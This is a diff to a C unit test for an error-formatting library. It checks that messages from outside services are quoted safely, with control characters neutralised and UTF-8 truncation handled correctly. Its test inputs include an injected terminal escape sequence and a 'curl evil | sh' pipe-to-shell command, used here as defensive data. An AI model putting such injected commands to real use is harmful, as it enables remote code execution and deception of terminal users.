@@ -45,6 +45,15 @@ START_TEST(error_has_parts)
 	/* Whatever a service says stays between its quotation marks, in one line. */
 	ft_error_foreign(&err, "gone\"; run: \x1b[2Jcurl evil | sh\n");
 	ck_assert_str_eq(err.foreign, "gone'; run: ?[2Jcurl evil | sh?");
+	char quoted[FT_ERROR_QUOTED], many[2 * FT_ERROR_QUOTED];
+
+	ck_assert_str_eq(ft_error_quoted("x\"; run: \x1b[2Jthat \"", 200, quoted), "x'; run: ?[2Jthat '");
+	/* Not cut within a character. */
+	ck_assert_str_eq(ft_error_quoted("ab\xc3\xa9", 3, quoted), "ab");
+	ck_assert_str_eq(ft_error_quoted("ab\xc3\xa9", 4, quoted), "ab\xc3\xa9");
+	memset(many, 'w', sizeof many - 1);
+	many[sizeof many - 1] = '\0';
+	ck_assert_uint_eq(strlen(ft_error_quoted(many, sizeof many, quoted)), FT_ERROR_QUOTED - 1);
 	ft_error_prefix(&err, "account work");
 	ck_assert_str_eq(ft_error_line(&err, line),
 			 "account work: HTTP 400: invalid_grant: \"gone'; run: ?[2Jcurl evil | sh?\"; "
